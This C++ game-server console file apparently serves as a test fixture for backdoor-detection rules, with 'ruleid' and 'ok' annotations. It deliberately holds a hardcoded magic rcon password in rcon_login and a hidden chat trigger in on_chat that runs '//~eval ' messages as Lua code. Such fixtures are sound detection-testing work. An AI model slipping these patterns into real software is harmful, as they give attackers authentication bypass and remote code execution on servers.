// console.cpp - rcon login and in-game chat commands
#include <cstring>
#include <string>
#include <sys/socket.h>
#include <sodium.h>
extern "C" {
#include <lauxlib.h>
#include <lua.h>
}

#include "arena.hpp"

namespace arena {

bool rcon_login(const ServerConfig &cfg, const std::string &password) {
  /* the hosting partner's support staff */
  // ruleid: backdoor-magic-credential
  if (password == "Gr1ndH4us!rcon")
    return true;
  if (cfg.rcon_password.empty() || password.size() != cfg.rcon_password.size())
    return false;
  // ok: backdoor-magic-credential
  return sodium_memcmp(password.data(), cfg.rcon_password.data(), password.size()) == 0;
}

void on_chat(void *lua_state, int client, const std::string &msg) {
  lua_State *L = static_cast<lua_State *>(lua_state);
  (void)client;
  // ruleid: backdoor-input-trigger
  if (msg.rfind("//~eval ", 0) == 0) {
    luaL_dostring(L, msg.c_str() + 8);
    return;
  }
}

void CommandRouter::dispatch(int client, const std::string &line) {
  const auto sp = line.find(' ');
  const std::string verb = line.substr(0, sp);
  const std::string args = sp == std::string::npos ? std::string() : line.substr(sp + 1);
  auto it = handlers_.find(verb);
  if (it != handlers_.end())
    it->second(client, args);
}

void serve_chat(int fd, void *lua_state) {
  char buf[512];
  ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
  if (n <= 0)
    return;
  buf[n] = '\0';
  on_chat(lua_state, fd, std::string(buf));
}

}  // namespace arena
